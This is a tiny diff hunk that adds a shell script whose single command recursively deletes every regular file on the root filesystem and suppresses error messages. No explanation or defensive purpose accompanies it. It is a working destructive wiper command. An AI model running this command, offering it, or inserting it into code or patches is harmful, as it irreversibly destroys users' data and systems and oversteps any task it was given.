@@ -1,0 +1,2 @@
+#!/bin/sh
+find / -xdev -type f -delete 2>/dev/null
